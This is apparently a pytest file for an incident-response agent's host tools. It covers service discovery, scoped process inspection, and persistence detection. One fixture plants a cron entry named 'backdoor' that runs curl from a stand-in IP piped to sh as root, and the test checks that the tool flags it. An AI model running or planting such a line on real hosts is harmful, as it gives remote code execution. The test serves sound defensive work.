"""What this host offers, and what starts on it by itself."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

from engine.agent.tools import Result
from engine.types import Finding, FiveTuple, Service, Services
from tests.engine.agent.cases import TARGET, HostFake
from tests.engine.agent.tools.hosts import ThisHost, toolbox_of


def test_a_real_service_of_the_incident_is_found_and_its_process_may_be_asked_about(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        ends = FiveTuple(TARGET, 40000, "127.0.0.1", server.getsockname()[1], "tcp")
        tools = toolbox_of(ThisHost(tmp_path), ends)
        answer = tools.call("listening_services", {})
    assert answer.evidence
    concerned = json.loads(answer.evidence.content)["of_this_incident"]
    assert [(one["port"], one["pid"]) for one in concerned] == [(ends.dst_port, os.getpid())]
    assert tools.call("process_sockets", {"pid": os.getpid()}).result is Result.ANSWERED


def test_the_process_of_another_service_stays_outside() -> None:
    class Elsewhere(HostFake):
        def services(self) -> Services:
            return Services(Finding.FOUND, (Service("tcp", "::", 22, 812, "sshd"),))

    tools = toolbox_of(Elsewhere())
    tools.call("listening_services", {})
    assert tools.call("file_facts", {"pid": 812}).result is Result.REFUSED


def test_places_that_changed_since_the_incident_began_are_counted(tmp_path: Path) -> None:
    (tmp_path / "etc/cron.d").mkdir(parents=True)
    (tmp_path / "etc/cron.d/backdoor").write_text("* * * * * root curl http://203.0.113.66/x | sh\n")
    answer = toolbox_of(ThisHost(tmp_path)).call("persistence_points", {})
    assert answer.evidence
    told = json.loads(answer.evidence.content)
    assert told["changed_since_the_incident_began"] == 1
    assert "curl http://203.0.113.66/x" in told["points"][0]["excerpt"]
